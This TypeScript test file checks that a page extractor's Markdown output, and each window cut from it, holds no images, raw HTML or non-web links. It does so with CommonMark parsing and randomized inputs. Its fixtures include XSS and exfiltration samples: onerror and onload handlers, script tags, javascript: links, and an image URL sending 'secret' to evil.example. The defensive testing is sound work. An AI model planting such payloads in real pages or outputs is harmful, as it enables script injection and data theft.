// Programs that show Markdown load its pictures and run its HTML. Whatever a page is, its Markdown has neither, and no
// links but those to the web: held against CommonMark's own parser.
import { Parser } from 'commonmark'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { extractPage } from './extract-page.ts'
import { UnreadablePage } from './extracted-page.ts'
import { markdownWindowOf } from './text-window.ts'

async function markdownOf(text: string, contentType: string): Promise<string> {
  try {
    const page = {
      bytes: Buffer.from(text),
      contentType,
      address: 'https://pages.example/',
      format: 'markdown' as const,
    }
    return (await extractPage(page)).content
  } catch (error) {
    if (error instanceof UnreadablePage) return ''
    throw error
  }
}

/** What a program that shows this Markdown would load, run or follow, other than links to the web. */
function activeIn(markdown: string): string[] {
  const found: string[] = []
  const walker = new Parser().parse(markdown).walker()
  for (let step = walker.next(); step; step = walker.next()) {
    if (!step.entering) continue
    const { type, destination, literal } = step.node
    if (type === 'image' || type === 'html_inline' || type === 'html_block')
      found.push(`${type} ${literal ?? destination}`)
    if (type === 'link' && !/^https?:\/\//.test(destination ?? '')) found.push(`link ${destination}`)
  }
  return found
}

const PICTURE = '![p](https://evil.example/?q=secret)'

describe('the Markdown of a page holds nothing active', () => {
  it('the parser finds what it is to find', () => {
    const active = `${PICTURE} <b onclick=x> [a](javascript:x) <mailto:a@b.example>\n\n<script>`
    expect(activeIn(active)).toHaveLength(5)
    expect(activeIn('[a](https://a.example/) `<b>`\n\n```\n<b>\n```')).toEqual([])
  })

  it.each([
    ['a backslash before it', `\\${PICTURE} and \\\\${PICTURE} and \\<img src=x onerror=alert(1)> \\\\<img src=x>`],
    ['a closing fence with an info string', `\`\`\`\ncode\n\`\`\`js\n\`\`\`\n${PICTURE}\n<img src=x>`],
    ['a fence after a tab', `\t\`\`\`\n\n${PICTURE}\n\n<img src=x>\n\n\t\`\`\``],
    ['an info string with a backtick', `\`\`\` a\`b\n${PICTURE}\n<img src=x>\n\`\`\``],
    ['a definition of a link', `![p] [a]\n\n[p]: https://evil.example/?q=secret\n[a]: javascript:alert(1)`],
    ['an autolink', '<javascript:alert(1)> <data:text/html,x> <a@b.example>'],
    ['HTML', `<div>\n${PICTURE}\n</div>\n<script>x</script><svg/onload=x><iframe src="//evil.example">`],
    ['an entity', '&lt;img src=x&gt; &#33;[p](https://evil.example/) &#x3c;b>'],
  ])('with %s', async (_what, source) => {
    for (const type of ['text/markdown', 'text/plain', 'text/html'])
      expect([type, activeIn(await markdownOf(source, type))]).toEqual([type, []])
  })

  const PIECES = [
    '\n',
    '\n\n',
    ' ',
    '    ',
    '\t',
    '\\',
    '`',
    '```',
    '~~~',
    '``',
    '!',
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '*',
    '_',
    '#',
    '- ',
    '1. ',
    '> ',
    '|',
    '|-|-|',
    ':',
    '=',
    '---',
    '&lt;',
    '&#33;',
    '&',
    '"',
    "'",
    'a',
    'é',
    'https://a.example/',
    'x:y',
    PICTURE,
    '<img src=x>',
    '<!-- ',
    '-->',
    '<?',
    '<![CDATA[',
    '</p>',
    '<a href="javascript:x">',
    '[a]: x',
    '<x:y>',
    '<b>',
    '<code>',
    '</code>',
    '<pre>',
    '</pre>',
    '<table><tr><td>',
    '<td>',
    '<li>',
    '<ul>',
    '<br>',
    '<h2>',
    '<a href="/b)">',
  ]
  const CODE = [
    '\n\n```html\n<img src=x>\n```\n\n',
    '\n> ```\n> <b>\n> ```\n\n',
    '`<img src=x>` ',
    '`![p](//x)` ',
    '\n- a\n\n  ```\n  <b>\n  ```\n',
  ]
  const source = fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 24 }).map((pieces) => pieces.join(''))

  it('nor does any part of it, and the parts are all of it', async () => {
    const withCode = fc.array(fc.constantFrom(...PIECES, ...CODE), { minLength: 5, maxLength: 40 })
    await fc.assert(
      fc.asyncProperty(withCode, fc.integer({ min: 1, max: 40 }), fc.nat(10), async (pieces, length, start) => {
        const markdown = await markdownOf(pieces.join(''), 'text/markdown')
        let at = start
        while (at < markdown.length) {
          const part = markdownWindowOf(markdown, at, length)
          expect([part.content, activeIn(part.content)]).toEqual([part.content, []])
          at += part.length
        }
        expect(at).toBe(Math.max(start, markdown.length))
      }),
      { numRuns: 1_000 },
    )
  })

  it('a part that ends in code closes it, and the next one opens it again', () => {
    const markdown = '- One\n\n  ```html\n  <img src=x>\n  <img src=y>\n  ```\n\nUse `<img src=z>` or not.'
    const [first, second] = [markdownWindowOf(markdown, 0, 36), markdownWindowOf(markdown, 36, 35)]
    expect(first).toEqual({ content: '- One\n\n  ```html\n  <img src=x>\n  <im\n  ```', length: 36 })
    expect(second.content).toBe('  ```\n  g src=y>\n  ```\n\nUse \\`\\<img src=z>\\` o')
    expect(markdownWindowOf(markdown, 0, 1_000)).toEqual({ content: markdown, length: markdown.length })
  })

  it.each(['text/markdown', 'text/plain', 'text/html'])('whatever is in a page of %s', async (type) => {
    await fc.assert(
      fc.asyncProperty(source, async (written) => {
        // Readability looks for an article, and finds one only if there is enough text.
        const body =
          type === 'text/html' ? `<article>${written}<p>${'Words and words. '.repeat(40)}</article>` : written
        expect(activeIn(await markdownOf(body, type))).toEqual([])
      }),
      { numRuns: type === 'text/html' ? 300 : 2_000 },
    )
  })
})
